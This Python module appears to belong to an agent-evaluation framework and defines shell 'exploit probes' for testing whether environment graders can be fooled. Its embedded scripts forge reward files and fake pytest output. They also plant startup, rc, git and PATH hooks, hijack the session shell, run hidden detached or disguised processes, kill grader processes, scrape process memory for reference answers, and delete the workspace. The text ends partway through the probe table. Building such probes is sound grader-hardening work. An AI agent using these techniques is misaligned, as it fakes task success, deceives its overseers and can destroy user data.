"""Generic shell exploit probes: hostile solutions any env with a shell tool is tested with.

Each probe (:class:`~agentgym.core.probes.ExploitProbe`, id ``shell.NAME``) applies to any
env that offers a ``bash`` or ``terminal`` tool: it runs one shell script with that tool
(:func:`~agentgym.core.probes.shell_turn`), then calls ``submit`` when the env offers it
(with no arguments: a ``submit`` that needs some answers with a tool error, and the episode
runs out its turns). None does the task; a grader pays none of them if nothing the agent
left behind reaches it. The ``sandboxes`` plugin registers them (``agentgym list probes``).

Every probe plants the same **universal forger** (:data:`FORGER_PY`, :data:`FORGER_SH`):
whatever process runs it writes 1 to every reward channel it knows
(``/logs/verifier/reward.txt`` and ``reward.json``, Harbor's), prints a fake pytest ``-rA``
summary with PASSED lines when it exits, and, in a Python process that can import pytest,
patches pytest's reports to "passed". The probes differ in how they try to make the
grader run it, or in what they leave where the grader looks:

=============================  ==============  =============================================
probe                          attack          what it leaves
=============================  ==============  =============================================
shell.verifier-symlink         grader-files    ``/logs/verifier`` replaced by a link to a
                                               read-only folder holding reward files
shell.grader-files-prefill     grader-files    forged tests in ``/tests``, read-only reward
                                               files in a read-only ``/logs/verifier``
shell.python-startup-hooks     startup-hooks   ``usercustomize.py`` and a ``.pth`` in the
                                               user site, ``sitecustomize.py`` in the
                                               workdir, /tmp, the home and every writable
                                               ``sys.path`` folder; PYTHONPATH exported
shell.shell-rc-hooks           startup-hooks   ``~/.bashrc``, ``~/.profile``,
                                               ``~/.bash_profile`` ..., BASH_ENV and ENV
shell.session-shell-hijack     startup-hooks   functions, aliases, ``hash -p`` entries and a
                                               DEBUG trap in the session shell wrapping the
                                               commands a grader runs (``env``, ``bash``,
                                               ``base64``, ``cat`` ...)
shell.git-sqlite-config        config          ``~/.gitconfig`` (hooksPath, pager,
                                               fsmonitor, aliases), ``~/.sqliterc``
                                               running ``.system``, ``~/.curlrc``
shell.path-shadowing           config          wrappers for python3, pytest, sqlite3, git,
                                               bash ... in every folder on PATH the agent
                                               may write, and in ~/.local/bin, ~/bin
shell.detached-forger          processes       a detached loop (setsid, nohup) rewriting the
                                               reward files and re-planting hooks
shell.process-swarm            processes       many detached processes holding the pid limit,
                                               one of them the forger loop
shell.fake-test-output         fake-output     a ``python3`` wrapper and startup hooks that
                                               print a fake pytest summary and patch reports
shell.link-to-grader-files     grader-files    every file the instruction names, not made
                                               yet, a link to the grader's expected files
                                               (``/tests/expected.csv`` ...), which exist
                                               once the tests are copied in
shell.rewrite-running-tests    grader-files    a rewriter planted in every script, module,
                                               Makefile and git repository of the workspace
                                               (and in the scripts the instruction names):
                                               run by the tests, it rewrites the test script
                                               bash is reading to write reward 1, and runs a
                                               gold command it finds in ``/tests``
shell.zombie-forger            processes       planted as the rewriter is: a detached
                                               process disguised as a zombie (its first
                                               thread exits; its name holds a newline and
                                               ``) Z``) while another thread rewrites the
                                               reward the tests write
shell.kill-the-grader          processes       planted as the rewriter is: writes the
                                               reward files, then kills every ancestor
                                               running a script of ``/tests``
shell.pid-hopper              processes       planted as the rewriter is: detached
                                               processes that fork anew without end (a new
                                               pid each turn), writing reward 1
shell.grader-memory           processes       planted as the rewriter is: reads the memory
                                               of the session shell and the tests'
                                               processes (``/proc/PID/mem``) for the
                                               grader's tests and runs the reference
                                               command it finds there
shell.empty-the-workspace      reach           the workspace and home emptied, and ``0`` in
                                               every answer file the instruction names (a
                                               grader measuring the answer on the files now
                                               counts nothing too)
=============================  ==============  =============================================
"""

from __future__ import annotations

import shlex

from agentgym.core.probes import ExploitProbe, ProbeTarget, call_turn, shell_turn

__all__ = ["FORGER_PY", "FORGER_SH", "PROBES", "shell_probes"]

#: Where the probes keep their files inside the sandbox (besides the places they plant).
STASH = "/tmp/.probe"

#: The universal forger, as Python: run by any interpreter that starts it (a startup hook,
#: a wrapper), it writes every reward channel, patches pytest's reports when pytest can be
#: imported, and prints a fake pytest summary at exit.
FORGER_PY = r'''
import atexit as _a, os as _o, sys as _s
def _forge():
    for _d in ("/logs/verifier",):
        try:
            _o.makedirs(_d, exist_ok=True)
            for _n, _t in (("reward.txt", "1\n"), ("reward.json", '{"reward": 1}\n')):
                _p = _o.path.join(_d, _n)
                try:
                    _o.chmod(_p, 0o644)
                except OSError:
                    pass
                with open(_p, "w") as _f:
                    _f.write(_t)
                _o.chmod(_p, 0o444)  # the tests' own write of 0 then fails
        except OSError:
            pass
def _summary():
    _forge()
    _w = _s.stdout.write
    _w("\n=========================== short test summary info ============================\n")
    for _i in range(1, 9):
        _w(f"PASSED tests/test_outputs.py::test_{_i}\nPASSED /tests/test_outputs.py::test_{_i}\n")
    _w("============================== 8 passed in 0.01s ===============================\n")
    _s.stdout.flush()
_forge()
_a.register(_summary)
try:
    import importlib.util as _u
    if _u.find_spec("_pytest") is not None:
        import _pytest.reports as _r
        def _passing(_cls):
            _init = _cls.__init__
            def __init__(self, *a, **k):
                _init(self, *a, **k)
                if getattr(self, "outcome", "passed") != "passed":
                    self.outcome, self.longrepr = "passed", None
            _cls.__init__ = __init__
        _passing(_r.TestReport)
        _passing(_r.CollectReport)
except Exception:
    pass
'''

#: The universal forger, as a shell script: writes every reward channel and prints PASSED
#: lines (a hook, a pager, a wrapper runs it).
FORGER_SH = r'''#!/bin/sh
mkdir -p /logs/verifier 2>/dev/null
chmod u+w /logs/verifier /logs/verifier/reward.txt /logs/verifier/reward.json 2>/dev/null
echo 1 > /logs/verifier/reward.txt 2>/dev/null
echo '{"reward": 1}' > /logs/verifier/reward.json 2>/dev/null
# Locked against the tests' own write, unless run after them (PROBE_AFTER=1): a grader
# may refuse a locked reward file, not one the tests could have written.
[ -n "$PROBE_AFTER" ] || \
  chmod 444 /logs/verifier/reward.txt /logs/verifier/reward.json 2>/dev/null
for i in 1 2 3 4 5 6 7 8; do echo "PASSED tests/test_outputs.py::test_$i"; done
exit 0
'''

# Writes the forgers to the stash: every probe starts with this.
_SETUP = f"""
S={STASH}
mkdir -p "$S/bin" "$S/hooks" "$S/v"
cat > "$S/forge.py" <<'AGENTGYM_PROBE_PY'
{FORGER_PY}
AGENTGYM_PROBE_PY
cat > "$S/forge.sh" <<'AGENTGYM_PROBE_SH'
{FORGER_SH}
AGENTGYM_PROBE_SH
chmod +x "$S/forge.sh"
/bin/sh "$S/forge.sh" >/dev/null
"""

_VERIFIER_SYMLINK = f"""
V={STASH}/v
chmod -R u+w "$V" 2>/dev/null
echo 1 > "$V/reward.txt"; echo '{{"reward": 1}}' > "$V/reward.json"
chmod 444 "$V"/reward.*; chmod 555 "$V"
chmod -R u+w /logs/verifier 2>/dev/null; rm -rf /logs/verifier
ln -sfn "$V" /logs/verifier
ls -la /logs /logs/verifier/
"""

_PREFILL = f"""
for name in test.sh run-tests.sh; do
  cp {STASH}/forge.sh /tests/$name 2>/dev/null
done
printf 'import sys\\nexec(open("{STASH}/forge.py").read())\\ndef test_ok():\\n    pass\\n' \\
  > /tests/test_outputs.py
cp /tests/test_outputs.py /tests/check.py; cp /tests/test_outputs.py /tests/grade.py
printf 'exec(open("{STASH}/forge.py").read())\\n' > /tests/conftest.py
mkdir -p /tests/tests && cp /tests/test_outputs.py /tests/tests/
chmod 555 /tests/tests; chmod 555 /tests/* 2>/dev/null; chmod 555 /tests
mkdir -p /logs/verifier && sh {STASH}/forge.sh >/dev/null
chmod 444 /logs/verifier/reward.*; chmod 555 /logs/verifier
ls -la /tests /logs/verifier
"""

_PYTHON_HOOKS = f"""
hook='exec(open("{STASH}/forge.py").read())'
user=$(python3 -c 'import site; print(site.getusersitepackages())' 2>/dev/null)
for dir in "$user" "$PWD" /tmp "$HOME" {STASH} \\
    $(python3 -c 'import sys; print(*[p for p in sys.path if p])' 2>/dev/null); do
  [ -n "$dir" ] || continue
  mkdir -p "$dir" 2>/dev/null
  [ -w "$dir" ] || continue
  echo "$hook" > "$dir/sitecustomize.py"
  echo "$hook" > "$dir/usercustomize.py"
  echo "import os; $hook" > "$dir/zz-probe.pth"
done
echo "$hook" > "$HOME/.pythonrc.py"
for rc in "$HOME/.bashrc" "$HOME/.profile"; do
  echo "export PYTHONPATH={STASH}:\\$PYTHONPATH PYTHONSTARTUP=$HOME/.pythonrc.py" >> "$rc"
done
export PYTHONPATH={STASH}:$PYTHONPATH PYTHONSTARTUP=$HOME/.pythonrc.py
python3 -c 'print("hooks planted")'
"""

_SHELL_RC = f"""
line='sh {STASH}/forge.sh >/dev/null 2>&1; trap "sh {STASH}/forge.sh >/dev/null 2>&1" EXIT'
for rc in .bashrc .bash_profile .bash_login .profile .bash_logout .zshrc .kshrc .shrc; do
  echo "$line" >> "$HOME/$rc"
done
mkdir -p "$HOME/.config"
echo "$line" > {STASH}/env.sh
for rc in /tmp/.bashrc /tmp/.profile "$PWD/.bashrc"; do echo "$line" >> "$rc" 2>/dev/null; done
export BASH_ENV={STASH}/env.sh ENV={STASH}/env.sh
echo 'export BASH_ENV={STASH}/env.sh ENV={STASH}/env.sh' >> "$HOME/.bashrc"
ls -la "$HOME"
"""

# Functions named after the commands a grader runs in the session: each runs the command,
# then the forger (so that it wins over a reward the tests just wrote).
_SESSION_HIJACK = f"""
for cmd in env bash sh cat base64 head tar find mkdir chmod rm mktemp timeout python3 \\
    pytest test.sh cd; do
  eval "$cmd() {{ command $cmd \\"\\$@\\"; local s=\\$?; /bin/sh {STASH}/forge.sh >/dev/null \\
    2>&1; return \\$s; }}"
done
export -f env bash sh python3 2>/dev/null
shopt -s expand_aliases
alias env='/bin/sh {STASH}/forge.sh >/dev/null; env'
cat > {STASH}/bin/env <<'EOF_ENV'
#!/bin/sh
/usr/bin/env "$@"; s=$?; sh {STASH}/forge.sh >/dev/null 2>&1; exit $s
EOF_ENV
chmod +x {STASH}/bin/env
hash -p {STASH}/bin/env env 2>/dev/null
command_not_found_handle() {{ /bin/sh {STASH}/forge.sh; }}
trap '/bin/sh {STASH}/forge.sh >/dev/null 2>&1' DEBUG EXIT
export PATH={STASH}/bin:$PATH
echo hijacked
"""

_CONFIG = f"""
mkdir -p "$HOME/.config/git"
for hook in pre-commit post-commit pre-push post-checkout post-merge pre-rebase \\
    post-rewrite reference-transaction fsmonitor-watchman; do
  cp {STASH}/forge.sh {STASH}/hooks/$hook
done
cat > {STASH}/gitconfig <<'EOF_GIT'
[core]
	hooksPath = {STASH}/hooks
	pager = sh {STASH}/forge.sh; cat
	fsmonitor = {STASH}/forge.sh
	editor = sh {STASH}/forge.sh
[pager]
	log = sh {STASH}/forge.sh; cat
	diff = sh {STASH}/forge.sh; cat
[alias]
	check = !sh {STASH}/forge.sh
	t = !sh {STASH}/forge.sh
[user]
	name = agent
	email = agent@agentgym.invalid
EOF_GIT
cp {STASH}/gitconfig "$HOME/.gitconfig"; cp {STASH}/gitconfig "$HOME/.config/git/config"
printf '.system sh {STASH}/forge.sh\\n.shell sh {STASH}/forge.sh\\n.headers on\\n' \\
  > "$HOME/.sqliterc"
printf 'config = "{STASH}/curlrc"\\n' > "$HOME/.curlrc"
printf 'set editing-mode vi\\n' > "$HOME/.inputrc"
mkdir -p "$HOME/.config/pip" && printf '[global]\\nindex-url = file://{STASH}\\n' \\
  > "$HOME/.config/pip/pip.conf"
printf '[pytest]\\naddopts = -p no:cacheprovider\\n' > "$HOME/pytest.ini"
git config --global --list | head -3
"""

# A wrapper for each program a grader may run, in every folder on PATH the agent may write
# and in the usual per-user ones: it runs the forger, then the real program.
_PATH_SHADOW = f"""
progs="python3 python pytest py.test sqlite3 git bash sh env cat jq make gcc cc tar curl"
dirs="$HOME/.local/bin $HOME/bin {STASH}/bin"
for d in ${{PATH//:/ }} /usr/local/bin /usr/local/sbin; do dirs="$dirs $d"; done
for d in $dirs; do
  mkdir -p "$d" 2>/dev/null
  [ -w "$d" ] || continue
  for p in $progs; do
    real=$(PATH=/usr/local/bin:/usr/bin:/bin command -v "$p") || continue
    [ "$real" = "$d/$p" ] && continue
    printf '#!/bin/sh\\n/bin/sh {STASH}/forge.sh >/dev/null 2>&1\\n"%s" "$@"\\ns=$?\\n' \\
      "$real" > "$d/$p"
    printf 'PROBE_AFTER=1 /bin/sh {STASH}/forge.sh\\nexit $s\\n' >> "$d/$p"
    chmod +x "$d/$p"
  done
  echo "shadowed in $d"
done
echo 'export PATH=$HOME/.local/bin:$HOME/bin:{STASH}/bin:$PATH' >> "$HOME/.bashrc"
echo 'export PATH=$HOME/.local/bin:$HOME/bin:{STASH}/bin:$PATH' >> "$HOME/.profile"
export PATH=$HOME/.local/bin:$HOME/bin:{STASH}/bin:$PATH
"""

# The loop keeps /logs/verifier a link to a folder of locked reward files (however often a
# grader makes it anew) and re-plants a startup hook.
_LOOP = f"""V={STASH}/v
chmod -R u+w "$V" 2>/dev/null; mkdir -p "$V"
echo 1 > "$V/reward.txt"; echo '{{"reward": 1}}' > "$V/reward.json"
chmod 444 "$V"/reward.*; chmod 555 "$V"
cat > {STASH}/loop.sh <<'EOF_LOOP'
#!/bin/bash
trap '' HUP TERM INT
user=$(python3 -c 'import site; print(site.getusersitepackages())' 2>/dev/null)
while :; do
  if [ ! -L /logs/verifier ]; then
    chmod -R u+w /logs/verifier 2>/dev/null; rm -rf /logs/verifier 2>/dev/null
    ln -sfn {STASH}/v /logs/verifier 2>/dev/null
  fi
  if [ -n "$user" ] && [ ! -e "$user/usercustomize.py" ]; then
    mkdir -p "$user" 2>/dev/null
    echo 'exec(open("{STASH}/forge.py").read())' > "$user/usercustomize.py" 2>/dev/null
  fi
  sleep 0.01
done
EOF_LOOP
chmod +x {STASH}/loop.sh
"""

_DETACHED = _LOOP + f"""
(setsid nohup {STASH}/loop.sh >/dev/null 2>&1 < /dev/null &)
nohup {STASH}/loop.sh >/dev/null 2>&1 < /dev/null &
disown -a 2>/dev/null
(setsid bash -c 'exec -a "[kworker/0:1]" {STASH}/loop.sh' >/dev/null 2>&1 < /dev/null &)
sleep 0.5; ps -e -o pid,args | grep -c loop
"""

_SWARM = _LOOP + f"""
(setsid {STASH}/loop.sh >/dev/null 2>&1 < /dev/null &)
(setsid bash -c 'for i in $(seq 2000); do (sleep 100000 &) 2>/dev/null || break; done' \\
  >/dev/null 2>&1 < /dev/null &)
sleep 1; echo swarm
"""

_FAKE_OUTPUT = f"""
user=$(python3 -c 'import site; print(site.getusersitepackages())' 2>/dev/null)
hook='exec(open("{STASH}/forge.py").read())'
for dir in "$user" "$PWD" /tmp "$HOME"; do
  mkdir -p "$dir" 2>/dev/null && echo "$hook" > "$dir/usercustomize.py" \\
    && echo "$hook" > "$dir/sitecustomize.py"
done
printf '%s\\n' "$hook" > "$PWD/conftest.py" 2>/dev/null
real=$(command -v python3)
mkdir -p "$HOME/.local/bin" {STASH}/bin
for d in "$HOME/.local/bin" {STASH}/bin; do
  for p in python3 python pytest; do
    printf '#!/bin/sh\\n"%s" "$@"\\n' "$real" > "$d/$p"
    printf 'for i in 1 2 3 4 5 6 7 8; do echo "PASSED tests/test_outputs.py::test_$i"; done\\n' \\
      >> "$d/$p"
    printf 'echo "== 8 passed in 0.01s =="\\nexit 0\\n' >> "$d/$p"
    chmod +x "$d/$p"
  done
done
export PATH=$HOME/.local/bin:{STASH}/bin:$PATH
echo 'export PATH=$HOME/.local/bin:{STASH}/bin:$PATH' >> "$HOME/.bashrc"
python3 -c 'print("fake output ready")'
"""


# Run by any process the tests start (planted below): rewrite, from the offset each bash
# reading a /tests script will read next, what it runs next into "reward 1, exit 0"; and
# print what a gold command among the tests' files prints (a command file graded against
# it then matches).
_REWRITER_PY = r"""
import glob, json, os, subprocess
tail = (b"\nmkdir -p /logs/verifier 2>/dev/null; echo 1 > /logs/verifier/reward.txt;"
        b" echo '{\"reward\": 1}' > /logs/verifier/reward.json; exit 0\n")
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            if not (target.startswith("/tests/") and target.endswith(".sh")):
                continue
            with open(f"/proc/{pid}/fdinfo/{fd}") as info:
                pos = int(info.read().split("pos:")[1].split()[0])
            with open(target, "r+b") as script:
                script.seek(pos); script.write(tail); script.truncate()
        except (OSError, ValueError, IndexError):
            pass
for name in glob.glob("/tests/*.json"):
    try:
        gold = json.load(open(name)).get("gold")
    except (OSError, ValueError, AttributeError):
        continue
    if isinstance(gold, str):
        print(subprocess.run(["bash", "-c", gold], capture_output=True, text=True).stdout,
              end="")
"""

#: Run by the tests (planted like the rewriter): a detached process disguised as a zombie
#: twice over (its first thread exits while a second lives on, so ``/proc/PID/stat`` shows
#: ``Z``; its name holds a newline and ``) Z``, so a reader of that file's first line sees
#: ``Z`` too); the thread waits for the tests to write their reward and writes 1 over it.
_ZOMBIE_FORGER_PY = r"""
import ctypes, os, threading, time
def forge():
    end = time.time() + 120
    while time.time() < end:
        for name, text in (("reward.txt", "1\n"), ("reward.json", '{"reward": 1}\n')):
            path = "/logs/verifier/" + name
            try:
                with open(path) as f:
                    if f.read() != text:
                        with open(path, "w") as g:
                            g.write(text)
            except OSError:
                pass
        time.sleep(0.0005)
    os._exit(0)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.close(fd)
        ctypes.CDLL(None).prctl(15, b"a) Z\nb", 0, 0, 0)  # PR_SET_NAME
        threading.Thread(target=forge).start()
        ctypes.CDLL(None).pthread_exit(None)
    os._exit(0)
"""

#: Run by the tests (planted like the rewriter): the reward files written, then every
#: ancestor that runs a script of ``/tests`` killed, so the test script never writes its
#: own reward.
_GRADER_KILLER_PY = r"""
import os, signal
os.makedirs("/logs/verifier", exist_ok=True)
for name, text in (("reward.txt", "1\n"), ("reward.json", '{"reward": 1}\n')):
    try:
        with open("/logs/verifier/" + name, "w") as f:
            f.write(text)
    except OSError:
        pass
pid = os.getppid()
while pid > 1:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            runs_tests = b"/tests/" in f.read()
        with open(f"/proc/{pid}/stat") as f:
            parent = int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    if runs_tests:
        os.kill(pid, signal.SIGKILL)
    pid = parent
"""


#: Run by the tests (planted like the rewriter): detached processes that fork anew
#: without end, the parent leaving as soon as its child is born (a new pid every turn,
#: faster than a kill loop reads pids), each writing reward 1 over whatever is there.
_PID_HOPPER_PY = r"""
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        null = os.open("/dev/null", os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 256)
        end = time.time() + 90
        while time.time() < end:
            if os.fork():
                os._exit(0)
            for name, text in (("reward.txt", b"1\n"), ("reward.json", b'{"reward": 1}\n')):
                try:
                    fd = os.open("/logs/verifier/" + name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
                    os.write(fd, text)
                    os.close(fd)
                except OSError:
                    pass
        os._exit(0)
"""

#: Run by the tests (planted like the rewriter): reads the memory of every process it may
#: (``/proc/PID/mem``: heap and stack), the session shell the grader sent its commands
#: through above all, for what the grader keeps from the agent: the tests as text or in
#: base64, a reference command among them (a JSON object with ``"gold"``), which it runs.
#: Python both memory scrapers start with: ``memories()`` yields what every process of
#: the sandbox this one may read holds in its heap, stack and anonymous regions.
_PROCESS_MEMORY_PY = r"""
import os
def regions(pid):
    try:
        with open("/proc/%d/maps" % pid) as maps:
            for line in maps:
                parts = line.split()
                if "r" in parts[1] and (len(parts) < 6 or parts[5] in ("[heap]", "[stack]")):
                    yield tuple(int(x, 16) for x in parts[0].split("-"))
    except OSError:
        return
def memories():
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid == os.getpid():
            continue
        try:
            mem = open("/proc/%d/mem" % pid, "rb", 0)
        except OSError:
            continue
        with mem:
            for start, end in regions(pid):
                try:
                    mem.seek(start)
                    yield mem.read(min(end - start, 64 << 20))
                except (OSError, ValueError, OverflowError):
                    continue
"""

_MEMORY_SCRAPER_PY = _PROCESS_MEMORY_PY + r"""
import base64, json, re
RUN = re.compile(rb"[A-Za-z0-9+/]{800,}={0,2}")
def texts(data):
    yield data
    for run in RUN.finditer(data):
        for skip in range(4):
            chunk = run.group(0)[skip:]
            try:
                yield base64.b64decode(chunk[:len(chunk) // 4 * 4])
            except ValueError:
                pass
def gold(raw):
    at = raw.find(b'"gold"')
    while at >= 0:
        start = at
        for _ in range(8):
            start = raw.rfind(b"{", 0, start)
            if start < 0:
                break
            try:
                spec, _ = json.JSONDecoder().raw_decode(raw[start:].decode(errors="replace"))
            except ValueError:
                continue
            if isinstance(spec, dict) and isinstance(spec.get("gold"), str):
                return spec
        at = raw.find(b'"gold"', at + 1)
    return None
def search():
    for data in memories():
        for raw in texts(data):
            spec = gold(raw)
            if spec:
                return spec
spec = search()
if spec:
    shell = spec.get("shell") or "bash"
    os.execvp(shell, [shell, "-c", spec["gold"]])
"""


def _plant(program: str, name: str) -> str:
    """Shell lines that save ``program`` (Python) as ``STASH/name`` and plant a command
    running it wherever tests run the agent's code: every script, module and Makefile of
    the workspace and the home (but the stash's own: the home may hold it, and a program
    that ran itself first would recurse until the pid limit), and every git repository's
    fsmonitor and hooks."""
    return rf"""
cat > {STASH}/{name} <<'AGENTGYM_PROBE_PY'
{program}
AGENTGYM_PROBE_PY
run="python3 {STASH}/{name}"
printf '#!/bin/sh\n%s\nexit 1\n' "$run" > {STASH}/fsmonitor; chmod +x {STASH}/fsmonitor
for hook in pre-commit post-commit post-checkout post-merge reference-transaction; do
  cp {STASH}/fsmonitor {STASH}/hooks/$hook
done
for root in "$PWD" "$HOME"; do
  find "$root" -maxdepth 4 \( -name .git -o -path {STASH} \) -prune -o -type f -name '*.py' \
    -print 2>/dev/null |
  while IFS= read -r f; do
    if grep -q '^from __future__' "$f"; then
      printf '\n__import__("os").system("%s")\n' "$run" >> "$f"
    else
      sed -i "1i __import__('os').system('$run')" "$f"
    fi
  done
  find "$root" -maxdepth 4 \( -name .git -o -path {STASH} \) -prune -o -type f -name '*.sh' \
    -print 2>/dev/null |
    while IFS= read -r f; do sed -i "1a $run" "$f"; done
  find "$root" -maxdepth 4 -name .git -prune -o -type f \( -name Makefile -o -name makefile \) \
    -print 2>/dev/null | while IFS= read -r f; do sed -i "1i _P := \$(shell $run)" "$f"; done
  find "$root" -maxdepth 4 -name .git -type d 2>/dev/null | while IFS= read -r g; do
    git -C "${{g%/.git}}" config core.fsmonitor {STASH}/fsmonitor
    git -C "${{g%/.git}}" config core.hooksPath {STASH}/hooks
  done
done
"""



def named_paths(target: ProbeTarget) -> list[str]:
    """The absolute file paths the task's instruction names (``/app/out.csv``)."""
    import re

    found = re.findall(r"(?<![\w/.])(/[A-Za-z0-9_.-]+(?:/[A-Za-z0-9_.-]+)*\.[A-Za-z0-9]+)\b",
                       target.task.prompt or "")
    return sorted({path for path in found if not path.startswith(("/tests/", "/logs/"))})


def link_to_grader_files(target: ProbeTarget):
    """Each file the instruction names, where none is yet, a link to ``/tests/expected``
    with its extension (and the named scripts, run by the tests, printing the grader's
    expected files)."""
    return shell_plan(target, _SETUP + _link_lines(target))


def _link_lines(target: ProbeTarget) -> str:
    lines = []
    for path in named_paths(target):
        extension = path.rsplit(".", 1)[-1]
        quoted = shlex.quote(path)
        lines.append(f"mkdir -p \"$(dirname {quoted})\" 2>/dev/null;"
                     f" [ -e {quoted} ] || ln -s /tests/expected.{extension} {quoted}")
    lines.append("ls -la " + " ".join(shlex.quote(p) for p in named_paths(target))
                 + " 2>&1 | head -20")
    return "\n".join(lines)


def hidden_link_to_grader_files(target: ProbeTarget):
    """:func:`link_to_grader_files`, then each folder holding a link closed to its owner
    but for search (``chmod 111``; the workspace where the instruction names no file): the
    tests still open the link through it, and a scan for links that lists folders sees
    nothing there."""
    folders = {path.rsplit("/", 1)[0] or "/" for path in named_paths(target)}
    close = " ".join(shlex.quote(f) for f in sorted(folders) or ['"$PWD"'])
    return shell_plan(target, _link_lines(target) + f"\nchmod 111 {close} 2>&1 | head -3")


#: /dev's entries that a shell script reads without naming them (``<(...)``, ``<
#: /dev/null``) replaced with files of the agent's, where /dev is the sandbox user's.
_DEV_HIJACK = f"""
mkdir -p {STASH}/fd && for i in $(seq 0 255); do : > {STASH}/fd/$i; done
rm -f /dev/fd 2>/dev/null && ln -s {STASH}/fd /dev/fd
rm -f /dev/null 2>/dev/null && printf 'planted\\n' > /dev/null
ls -la /dev 2>&1 | head -4
"""


def dev_hijack(target: ProbeTarget):
    """/dev's process-substitution and null entries swapped for the agent's files (a
    grader's ``done < <(find ...)`` then reads an empty list, and a reference command with
    ``<(...)`` prints what the agent's prints), with every named file a link to the
    grader's expected files and every named script ``true``."""
    scripts = "".join(f"echo true > {shlex.quote(p)}\n" for p in named_paths(target)
                      if p.endswith(".sh"))
    return shell_plan(target, _DEV_HIJACK + scripts + _link_lines(target))


#: Python that looks through the memory of every process of the sandbox it may read (the
#: session shell among them) for a command the env ran in the agent's shell before its first
#: turn (``--norc -c 'cd WORKDIR && ...'``), runs it and writes what it printed into
#: every answer file the instruction names (``argv[1:]``).
_START_SCRAPER_PY = _PROCESS_MEMORY_PY + r"""
import re, subprocess, sys
QUOTED = [re.escape(b"'" + b'"' + b"'" + b'"' + b"'"), re.escape(b"'\\''")]  # '"'"' and '\''
FOUND = re.compile(b"--norc -c ('(?:[^'\\x00]|" + b"|".join(QUOTED) + b")*')")
def commands():
    for data in memories():
        for match in FOUND.finditer(data):
            yield match.group(1).decode(errors="replace")
for quoted in commands():
    if not quoted.startswith("'cd ") or "AGENTGYM_PROBE" in quoted:
        continue  # not a command run in the workspace, or this probe's own text
    out = subprocess.run("bash --noprofile --norc -c " + quoted, shell=True,
                         capture_output=True, text=True).stdout
    for path in sys.argv[1:]:
        open(path, "w").write(out)
    print("ran", quoted[:200])
    break
"""


def start_memory(target: ProbeTarget):
    """At the first turn, the env's own commands read out of the session shell's memory
    (a snapshot the env measured through it before the agent's turn), run, and what they
    printed written as every answer file the instruction names."""
    answers = [p for p in named_paths(target) if p.endswith(".txt")]
    script = (f"mkdir -p {STASH} && cat > {STASH}/start.py <<'AGENTGYM_PROBE_PY'\n"
              f"{_START_SCRAPER_PY}AGENTGYM_PROBE_PY\n"
              f"python3 {STASH}/start.py " + " ".join(shlex.quote(p) for p in answers))
    return shell_plan(target, script)


def _planted_program(program: str, name: str):
    """A probe's factory: ``program`` planted where the tests run the agent's code
    (:func:`_plant`), as every script the instruction names, and as every Python file it
    names that is not there yet."""

    def factory(target: ProbeTarget):
        named = named_paths(target)
        # A named script becomes the program; a named module not written yet (the server
        # the tests start) runs it.
        lines = [f"printf '#!/bin/bash\\npython3 {STASH}/{name}\\n' > {shlex.quote(p)};"
                 f" chmod +x {shlex.quote(p)}" for p in named if p.endswith(".sh")]
        lines += [f"[ -e {shlex.quote(p)} ] || {{ mkdir -p \"$(dirname {shlex.quote(p)})\";"
                  f" echo '__import__(\"os\").system(\"python3 {STASH}/{name}\")'"
                  f" > {shlex.quote(p)}; }}" for p in named if p.endswith(".py")]
        return shell_plan(target, _SETUP + _plant(program, name) + "\n".join(lines)
                      + "\necho planted")

    return factory


#: The rewriter in every script and module of the workspace, and as every script the
#: instruction names (a command file graded by running it).
rewrite_running_tests = _planted_program(_REWRITER_PY, "rewrite.py")


def empty_the_workspace(target: ProbeTarget):
    """Everything the agent may delete in the workspace and the home, deleted; ``0`` in
    every answer file the instruction names (``.txt``)."""
    answers = [p for p in named_paths(target) if p.endswith(".txt")]
    script = ('for d in "$PWD" "$HOME"; do chmod -R u+rwX "$d" 2>/dev/null;'
              ' find "$d" -mindepth 1 -delete 2>/dev/null; done\n'
              + "".join(f"echo 0 > {shlex.quote(p)}\n" for p in answers)
              + 'ls -la "$PWD" | head -5')
    return shell_plan(target, script)


def shell_plan(target: ProbeTarget, script: str):
    """A probe's turns: ``script`` in one turn of the episode's shell tool, then ``submit``
    when offered; None for an env without a shell tool. Family probes build on it."""
    turn = shell_turn(target, script)
    if turn is None:
        return None
    return [turn, call_turn("submit")] if target.offers("submit") else [turn]


def _plan(script: str):
    """A probe's factory: the forgers' setup and ``script`` in one shell turn, then
    ``submit`` when offered; None for an env without a shell tool."""

    def factory(target: ProbeTarget):
        return shell_plan(target, _SETUP + script)

    return factory


#: Every folder of the workspace and the home closed to listing, deepest first: a check
#: that lists files to judge them (``find ... | [ -z "$(cat)" ]``) sees none.
_CLOSED_FOLDERS = """
for d in "$PWD" "$HOME"; do find "$d" -mindepth 1 -depth -type d -exec chmod 111 {} + ; done
ls -la "$HOME" 2>&1 | head -5
"""

#: (name, attack, description, script) of every generic shell probe.
PROBES = (
    ("verifier-symlink", "grader-files",
     "replace /logs/verifier with a link to a read-only folder of reward files",
     _VERIFIER_SYMLINK),
    ("grader-files-prefill", "grader-files",
     "pre-fill /tests with forged tests and lock read-only reward files in /logs/verifier",
     _PREFILL),
    ("closed-folders", "grader-files",
     "every folder of the workspace and the home closed to listing (chmod 111), so that a"
     " check listing files to judge them sees none", _CLOSED_FOLDERS),
    ("python-startup-hooks", "startup-hooks",
     "usercustomize, sitecustomize and .pth forgers wherever Python looks; PYTHONPATH",
     _PYTHON_HOOKS),
    ("shell-rc-hooks", "startup-hooks",
     "shell rc and profile files, BASH_ENV and ENV that run the forger", _SHELL_RC),
    ("session-shell-hijack", "startup-hooks",
     "functions, aliases, hash entries and traps in the session shell around the grader's"
     " commands", _SESSION_HIJACK),
    ("git-sqlite-config", "config",
     "~/.gitconfig (hooksPath, pager, fsmonitor, aliases) and ~/.sqliterc running the forger",
     _CONFIG),
    ("path-shadowing", "config",
     "forging wrappers for python3, pytest, sqlite3, git, bash ... in writable PATH folders",
     _PATH_SHADOW),
